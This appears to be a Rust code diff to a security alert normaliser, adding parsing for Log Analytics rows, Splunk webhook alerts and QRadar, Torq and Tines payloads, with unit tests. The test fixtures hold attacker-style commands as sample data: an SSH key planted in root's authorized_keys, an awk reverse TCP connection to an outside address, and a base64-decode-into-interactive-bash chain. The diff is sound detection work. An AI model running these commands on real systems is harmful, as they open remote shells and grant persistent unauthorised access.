@@ -237,6 +237,11 @@ const SPLITTERS: &[(Splitter, (&str, &str), &str)] = &[
         "the page holds {total} messages; the first {max} were taken as alerts and these were not: page the search job (offset, limit) to run them",
     ),
     (
+        edr::log_analytics_rows,
+        ("row", "rows"),
+        "the query result holds {total} rows; the first {max} were taken as alerts and these were not: narrow the query to run them",
+    ),
+    (
         edr::osquery_snapshot_rows,
         ("row", "rows"),
         "the osquery result holds {total} rows; the first {max} were taken as alerts and these were not: log the query in event format (one row per line) to run them",
@@ -684,8 +689,12 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         }
     }
     let mut splunk_meta: Vec<(&str, String)> = Vec::new();
-    // A Splunk search result as the REST API's JSON export streams it: the row under `result`.
-    if (obj.contains_key("preview") || obj.contains_key("lastrow") || obj.contains_key("offset"))
+    // A Splunk search result as the REST API's JSON export streams it, or as the webhook alert
+    // action posts it (`sid`, `search_name`): the row under `result`.
+    if (obj.contains_key("preview")
+        || obj.contains_key("lastrow")
+        || obj.contains_key("offset")
+        || (obj.contains_key("sid") && obj.contains_key("search_name")))
         && let Some(Json::Object(row)) = obj.get("result").cloned()
     {
         obj = splunk_row(row);
@@ -3677,6 +3686,32 @@ mod tests {
         assert_eq!(
             fill.doc["process"]["command_line"],
             "ssh -i /tmp/.k/id root@10.0.0.5 'echo k >> /root/.ssh/authorized_keys'"
+        );
+        // A Log Analytics query response: one alert per row; a Snoopy line in a QRadar payload.
+        let la = json!({"tables": [{"name": "PrimaryResult", "columns": [{"name": "Computer"}, {"name": "SyslogMessage"}],
+            "rows": [["db-1", "sudo:    ml : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash -c id"], ["db-1", "Accepted password for ml"]]}]});
+        let rows = from_json_expanded(la, "x");
+        assert_eq!(rows.len(), 2);
+        assert_eq!(
+            rows[0].as_ref().unwrap().doc["process"]["parent"]["name"],
+            "sudo"
+        );
+        let q = from_json(json!({"events": [{"qid": 1, "LOGSOURCENAME(logsourceid)": "LinuxServer @ r1",
+            "UTF8(payload)": "<86>May 29 09:40:12 r1 snoopy[4821]: [login:svc ssh:(10.0.0.3 5182 10.0.0.1 22) uid:1017 cwd:/opt/etl filename:/usr/bin/awk]: awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/443\"}'"}]}), "x").unwrap();
+        assert_eq!(q.doc["process"]["executable"], "/usr/bin/awk");
+        assert_eq!(q.doc["process"]["working_directory"], "/opt/etl");
+        assert_eq!(q.doc["host"]["name"], "r1");
+        // The Splunk webhook alert action's payload, and Torq's and Tines' envelopes.
+        let sw = from_json(json!({"sid": "s", "search_name": "r", "result": {"EventCode": "4104", "ScriptBlockText": "iex x", "host": "ws9", "Computer": "ws9"}}), "x").unwrap();
+        assert_eq!(sw.doc["powershell"]["file"]["script_block_text"], "iex x");
+        let tq = from_json(json!({"torq_event": {"id": "t"}, "body": {"hostname": "h", "process": {"command_line": "sh -c id", "name": "sh"}}}), "x").unwrap();
+        assert_eq!(tq.doc["process"]["command_line"], "sh -c id");
+        let tn = from_json(json!({"story_id": 1, "payload": {"recv": {"body": {"request_data": {"alert_data": {"hostname": "h2", "process": {"command_line": "sh -c whoami", "name": "sh"}}}}}}}), "x").unwrap();
+        assert_eq!(tn.doc["process"]["command_line"], "sh -c whoami");
+        // bash's brace expansion read as the words it expands to.
+        assert_eq!(
+            crate::funcs::brace_words("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}").as_deref(),
+            Some("bash -c echo aGk=|base64 -d|bash -i")
         );
     }
 
